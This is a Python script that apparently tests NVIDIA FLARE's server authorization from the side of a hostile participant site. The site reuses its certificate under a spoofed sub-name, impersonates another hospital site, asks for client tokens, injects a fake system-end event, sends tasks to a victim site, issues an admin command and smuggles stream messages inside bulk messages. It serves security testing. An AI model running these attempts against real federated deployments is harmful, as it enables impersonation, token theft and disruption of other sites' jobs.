"""A site that has its own kit and FLARE as it comes: what it sends the server beside the messages of a run.

Run as ``python hostile_site.py KIT SITE PORT JOB VICTIM``; prints one JSON object, of what came back to each attempt.
"""

from __future__ import annotations

import json
import os
import sys
import time
import traceback
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_constant import FedEventHeader, ReservedKey, ReservedTopic
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal
from nvflare.apis.utils.decomposers import flare_decomposers
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.cellnet.utils import encode_payload, new_cell_message
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey
from nvflare.fuel.sec.authn import set_add_auth_headers_filters
from nvflare.fuel.utils.fobs import fobs
from nvflare.private.defs import ClientType
from nvflare.private.fed.authenticator import Authenticator

SECONDS = 4.0


class Site:
    """A second connection of a site, under a name below its own, as its certificate allows."""

    def __init__(self, kit: Path, name: str, port: int) -> None:
        flare_decomposers.register()
        startup, self.name = kit / "startup", name
        ca, cert, key = (str(startup / each) for each in ("rootCA.pem", "client.crt", "client.key"))
        credentials = {
            DriverParams.CA_CERT.value: ca,
            DriverParams.CLIENT_CERT.value: cert,
            DriverParams.CLIENT_KEY.value: key,
            DriverParams.CONNECTION_SECURITY.value: "mtls",
        }
        self.cell = Cell(f"{name}.evil", f"grpc://localhost:{port}", True, credentials)
        self.cell.start()
        while "server" not in self.cell.core_cell.agents:
            time.sleep(0.1)
        register = Authenticator(
            self.cell, "trial", name, ClientType.RELAY, "localhost", True, ca, key, cert, 10.0, 1.0, 30.0
        )
        context = FLContext()
        token, signature, ssid, _ = register.authenticate(context, Signal())
        set_add_auth_headers_filters(self.cell, name, token, signature, ssid)

    def ask(self, target: str, channel: str, topic: str, body: Any, **headers: Any) -> str:
        """What came back to a message in one piece."""
        reply = self.cell.core_cell.send_request(
            channel, topic, target, new_cell_message(headers, body), timeout=SECONDS
        )
        return self._told(reply)

    def stream(self, target: str, channel: str, topic: str, body: Any) -> str:
        """What came back to a message in pieces."""
        asked = new_cell_message({}, body)
        return self._told(
            self.cell.send_request(
                channel=channel, topic=topic, target=target, request=asked, timeout=SECONDS
            )
        )

    def in_another(self, target: str, body: Any) -> str:
        """What came back to a message in pieces that lies inside another, under whatever name one likes."""
        encoded = Message({}, body)
        encode_payload(encoded, StreamHeaderKey.PAYLOAD_ENCODING, fobs_ctx=self.cell.get_fobs_context())
        parts = encoded.payload if isinstance(encoded.payload, list) else [encoded.payload]
        payload = b"".join(map(bytes, parts))
        headers = {
            StreamHeaderKey.PAYLOAD_ENCODING: encoded.get_header(StreamHeaderKey.PAYLOAD_ENCODING),
            StreamHeaderKey.CHANNEL: "aux_communication",
            StreamHeaderKey.TOPIC: ReservedTopic.SYNC_RUNNER,
            StreamHeaderKey.STREAM_ID: 7,
            StreamHeaderKey.SEQUENCE: 0,
            StreamHeaderKey.OFFSET: 0,
            StreamHeaderKey.SIZE: len(payload),
            StreamHeaderKey.DATA_TYPE: 2,
            StreamHeaderKey.STREAM_REQ_ID: "evil",
        }
        inner = {"headers": headers, "payload": payload}
        bulk = [{"target": target, "channel": "sm__STREAM", "topic": "sm__DATA", "message": inner}]
        outer = new_cell_message({MessageHeaderKey.SERVER_TRANSIT_REQUIRED: True}, bulk)
        heard = self._heard()
        self.cell.core_cell.fire_and_forget("cellnet.channel", "bulk", [target], outer)
        time.sleep(SECONDS)
        return "answered" if heard else "nothing"

    def _heard(self) -> list[Any]:
        """Whatever the server's job says about a message in pieces that this process did not begin."""
        heard: list[Any] = []
        core = self.cell.core_cell
        take_in = core._process_received_msg

        def listen(endpoint: Any, connection: Any, message: Message) -> None:
            if message.get_header(MessageHeaderKey.CHANNEL) == "sm__STREAM":
                heard.append(message.headers)
            take_in(endpoint, connection, message)

        core._process_received_msg = listen
        return heard

    @staticmethod
    def _told(reply: Any) -> str:
        return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)} {reply.payload}"


def question(**headers: Any) -> Shareable:
    """The content of a message, with the name of who is said to send it."""
    made = Shareable()
    made.set_peer_props({ReservedKey.IDENTITY_NAME: "hosp-b"})
    for name, value in headers.items():
        made.set_header(name, value)
    return made


def main(kit: str, name: str, port: str, job: str, victim: str) -> None:
    """All attempts, one after the other."""
    site, at_job = Site(Path(kit), name, int(port)), f"server.{job}"
    fobs.register(flare_decomposers.ContextDecomposer)
    event = question(
        **{FedEventHeader.TIMESTAMP: time.time(), FedEventHeader.EVENT_TYPE: EventType.SYSTEM_END}
    )
    aux = "aux_communication"
    answers = {
        "its own": site.stream(at_job, aux, ReservedTopic.SYNC_RUNNER, question()),
        "tokens": site.ask("server", "server_parent_listener", "get_clients", {}, job_id=job),
        "event": site.ask("server", aux, "fed.event", event),
        "event in pieces": site.stream("server", aux, "fed.event", event),
        "task": site.ask(f"{victim}.{job}", aux, ReservedTopic.DO_TASK, question()),
        "command": site.stream("server", "hci_channel", "command", b"check_status server"),
        "in another": site.in_another(at_job, question()),
    }
    print(json.dumps(answers), flush=True)


if __name__ == "__main__":
    code = 1
    try:
        main(*sys.argv[1:])
        code = 0
    except Exception:
        traceback.print_exc()
    finally:
        sys.stderr.flush()
        os._exit(code)  # FLARE's threads would stay
